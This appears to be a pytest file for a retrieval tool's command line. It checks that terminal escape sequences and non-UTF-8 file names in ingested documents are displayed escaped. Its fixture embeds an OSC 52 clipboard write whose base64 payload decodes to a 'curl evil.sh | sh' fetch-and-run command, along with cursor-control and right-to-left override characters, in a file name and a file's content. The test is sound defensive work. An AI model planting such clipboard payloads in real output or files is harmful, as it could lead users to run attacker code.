"""What a document or a file name holds is shown, never obeyed: control sequences reach the
terminal as visible escapes; a name that is not UTF-8 is ingested and shown escaped."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.hostile.conftest import ESC, rag

pytestmark = pytest.mark.slow

# Erase the line, move up, write the clipboard (OSC 52), and a right-to-left override.
HOSTILE = f"{ESC}[2K{ESC}[1A{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\u202e"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "warranty.txt").write_text("The battery warranty lasts ten years.\n", encoding="utf-8")
    (folder / f"{HOSTILE}evil.txt").write_text(
        f"Solar panel cleaning{HOSTILE} schedule: rinse the solar panels every spring.\n", encoding="utf-8"
    )
    # Latin-1 "café-notes.txt", as an old zip or Samba share leaves it: not valid UTF-8.
    with open(os.path.join(os.fsencode(folder), b"caf\xe9-notes.txt"), "wb") as fh:
        fh.write(b"The inverter warranty lasts five years.\n")
    return folder


def test_control_characters_and_odd_names_are_shown_escaped(folder: Path, data: Path) -> None:
    ingest = rag("ingest", str(folder), "--kb", "docs", data=data)
    assert ingest.code == 0, ingest.text  # every file went in, the odd name included
    assert [line.split()[:2] for line in ingest.out.splitlines() if line.strip().startswith("added")] == [
        ["added", "3"]
    ]

    show = rag("kb", "show", "docs", data=data)
    assert show.code == 0
    assert "caf\\xe9-notes.txt" in show.out and "\\x1b[2K\\x1b[1A" in show.out and "\\u202eevil.txt" in show.out

    found = rag("ask", "solar panel cleaning schedule", "--kb", "docs", "--mode", "bm25", data=data)
    assert found.code == 0, found.text
    assert "\\x1b]52;c;" in found.out, "the clipboard write is shown as text"

    not_found = rag("ask", "What is the capital of France?", "--kb", "docs", data=data)
    assert not_found.code == 0 and "Closest passages" in not_found.out
    for run in (ingest, show, found, not_found):
        assert ESC not in run.text and "\x07" not in run.text and "\u202e" not in run.text

    again = rag("ingest", str(folder), "--kb", "docs", "--sync", data=data)
    assert again.code == 0 and "nothing new" in again.out, "the odd name is recognised again, not removed"
